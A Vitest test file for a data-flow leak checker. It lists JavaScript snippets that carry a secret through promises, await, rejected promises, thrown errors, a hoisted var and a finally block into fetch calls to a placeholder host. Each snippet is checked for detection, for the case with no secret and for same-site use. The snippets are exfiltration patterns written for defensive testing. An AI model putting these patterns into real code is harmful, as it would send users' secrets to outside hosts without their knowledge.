import { describe, test } from "vitest";
import {
	type DataFlow,
	expectHarmlessOnOwnSite,
	expectHarmlessWithoutSecret,
	expectLeak,
} from "../testing/data-flow-checks.ts";

const FLOWS: readonly DataFlow[] = [
	["a promise", `Promise.resolve(SECRET).then((text) => text.trim()).then((text) => fetch("HOST/" + text));`],
	["promises in a list", `Promise.all([Promise.resolve(SECRET), 1]).then(([text]) => fetch("HOST/" + text));`],
	["await", `(async () => { const text = await Promise.resolve(SECRET); await fetch("HOST/" + text); })();`],
	["a promise that is made by hand", `new Promise((done) => done(SECRET)).then((text) => fetch("HOST/" + text));`],
	["a rejected promise", `Promise.reject(SECRET).catch((text) => fetch("HOST/" + text));`],
	["an error", `try { throw new Error(SECRET); } catch (error) { fetch("HOST/" + error.message); }`],
	[
		"something thrown in a function",
		`function fail() { throw { text: SECRET }; } try { fail(); } catch ({ text }) { fetch("HOST/" + text); }`,
	],
	[
		"a var seen before it is set",
		`function send() { fetch("HOST/" + late); } setTimeout(send, 10); var late = SECRET;`,
	],
	["finally", `let text; try { risky(); } finally { text = SECRET; } fetch("HOST/" + text);`],
];

describe("data through promises and errors", () => {
	test.each(FLOWS)("%s carries a secret to a stranger", (_title, code) => expectLeak(code));
	test.each(FLOWS)("%s carries nothing when there is nothing to carry", (_title, code) =>
		expectHarmlessWithoutSecret(code),
	);
	test.each(FLOWS)("%s may carry anything on the site itself", (_title, code) => expectHarmlessOnOwnSite(code));
});
